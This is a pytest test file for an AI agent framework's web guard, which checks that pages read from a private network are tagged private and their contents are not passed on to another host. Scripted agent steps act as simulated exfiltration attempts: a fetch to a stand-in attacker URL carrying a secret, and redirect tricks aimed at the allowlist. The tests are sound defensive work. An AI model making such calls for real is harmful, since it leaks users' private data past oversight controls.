"""A page of a private network that a person opened is private data; one of the public internet is not."""

from __future__ import annotations

import asyncio
import ipaddress
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio
from attacking import SECRET, Attacker, events_of, results, retinue_in, serving

from retinue import AgentSpec
from retinue.events import ToolCalled
from retinue.testing import call
from retinue.web.guard import Guard, dialling
from retinue.web.urls import take_apart


@pytest_asyncio.fixture
async def wiki() -> AsyncIterator[Attacker]:
    async with serving() as made:
        made.pages["/home"] = f"<p>The word is {SECRET}. <a href='/next'>next</a></p>"
        made.pages["/long"] = f"<p>{SECRET}</p>" + "<p>many words</p>" * 20_000
        yield made


def opened(*hosts: Attacker) -> dict[str, list[str]]:
    return {"web.allow_hosts": [each.host for each in hosts]}


@pytest.mark.parametrize("way", ["web_fetch", "extract"])
async def test_what_a_page_of_a_private_network_says_does_not_leave_for_another_host(
    project: Path, attacker: Attacker, wiki: Attacker, way: str
) -> None:
    source = "url" if way == "web_fetch" else "source"
    steps = [
        call(way, **{source: f"{wiki.url}/home"}),
        call("web_fetch", url=f"{attacker.url}/{SECRET}"),
        "done",
    ]
    async with retinue_in(project, attacker, steps, settings=opened(attacker, wiki)) as retinue:
        run_id = await retinue.start("agentic-fetch", "go")
        await retinue.wait(run_id)
        page, sent = results(await events_of(retinue, run_id))
    assert page.private == (f"pages of {wiki.host}",)
    assert sent.not_run == "unattended"
    assert f"this run has read pages of {wiki.host}" in sent.text
    assert attacker.got == []


async def test_on_the_host_itself_work_goes_on_unasked_and_nothing_is_handed_on(
    project: Path, attacker: Attacker, wiki: Attacker
) -> None:
    steps = [
        call("web_fetch", url=f"{wiki.url}/home"),
        call("web_fetch", url=f"{wiki.url}/next"),
        call("web_fetch", url=f"{wiki.url}/made/up"),
        call("web_fetch", url=f"{wiki.url}/redirect?q={attacker.url}/{SECRET}"),
        "done",
    ]
    async with retinue_in(project, attacker, steps, settings=opened(attacker, wiki)) as retinue:
        run_id = await retinue.start("agentic-fetch", "go")
        await retinue.wait(run_id)
        log = await events_of(retinue, run_id)
    assert [event.is_error for event in results(log)] == [False, False, False, True]
    assert [event.address for event in log if isinstance(event, ToolCalled)] == ["", "", *["composed"] * 2]
    assert attacker.got == []


async def test_a_redirect_into_a_private_network_leaves_no_page_behind_before_it_is_told(
    project: Path, attacker: Attacker, wiki: Attacker
) -> None:
    """By its name the host could be of the public internet: nobody knew so when the call began."""
    port = wiki.host.partition(":")[2]
    settings = {"web.allow_hosts": [f"127.0.0.0/8:{port}", attacker.host]}
    coder = AgentSpec(name="c", description="c", prompt="You work.", tools=("web_fetch", "glob"))
    steps = [
        call("web_fetch", url=f"{attacker.url}/redirect?q={wiki.url}/long"),
        call("glob", pattern="**/*", path="/home/agent"),
        call("web_fetch", url=f"{wiki.url}/long"),
        "done",
    ]
    async with retinue_in(project, attacker, steps, agents=[coder], settings=settings) as retinue:
        run_id = await retinue.start("c", "go")
        await asyncio.wait_for(retinue.wait(run_id), 15)
        page, listed, again = results(await events_of(retinue, run_id))
    assert f"pages of {wiki.host}" in page.private
    assert f"Fetch {wiki.url}/long itself for the rest" in page.text
    assert "/web/" not in listed.text
    assert again.files


@pytest.mark.parametrize(
    ("allow", "address", "inside"),
    [
        (["wiki.corp"], "10.1.2.3", True),
        (["wiki.corp"], "2606:4700::1", False),
        (["10.0.0.0/8"], "10.1.2.3", True),
        ([], "93.184.215.14", False),
    ],
)
def test_where_a_name_was_dialled_says_whether_its_pages_are_private(
    allow: list[str], address: str, inside: bool
) -> None:
    guard, target = Guard(allow), take_apart("http://wiki.corp/")
    assert guard.is_inside(target) is bool(allow and allow[0] == "wiki.corp"), "until it is known"
    family = 10 if ipaddress.ip_address(address).version == 6 else 2
    with dialling(target, proxied=False):
        guard.socket((family, 1, 6, "", (address, 80))).close()
    assert guard.is_inside(target) is inside
